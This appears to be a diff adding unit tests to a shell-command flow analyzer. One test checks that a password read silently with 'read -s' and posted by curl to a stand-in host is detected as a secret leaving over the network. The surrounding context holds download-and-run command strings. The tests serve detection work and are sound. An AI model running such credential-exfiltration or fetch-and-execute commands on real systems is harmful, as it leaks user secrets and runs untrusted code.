@@ -366,3 +366,12 @@ TEST_CASE("running a file unpacked from a downloaded archive runs fetched code")
   CHECK_FALSE(has_flow(analyze("curl -sLo /tmp/p.tgz https://x.example/p.tgz && tar -xzf /tmp/p.tgz -C /opt/p && /usr/bin/env"), "network", "exec"));
   CHECK_FALSE(has_flow(analyze("tar xzf vendor/local.tgz && ./local/install.sh"), "network", "exec"));
 }
+
+TEST_CASE("what is typed at read -s from the terminal is a password: sent anywhere it is a secret flow") {
+  auto facts = analyze("read -rsp 'Password: ' pw; echo; curl -s -d \"$pw\" https://x.example.com/s");
+  REQUIRE(flow_of(facts, "secret_var", "network"));
+  CHECK(flow_of(facts, "secret_var", "network")->source == "a password typed at read -s");
+  // Echoed input, or -s reading a pipe, is no password.
+  CHECK_FALSE(has_flow(analyze("read -rp 'Name: ' name; curl -s -d \"$name\" https://x.example.com/s"), "secret_var", "network"));
+  CHECK_FALSE(has_flow(analyze("echo hi | { read -s x; curl -d \"$x\" https://x.example.com; }"), "secret_var", "network"));
+}
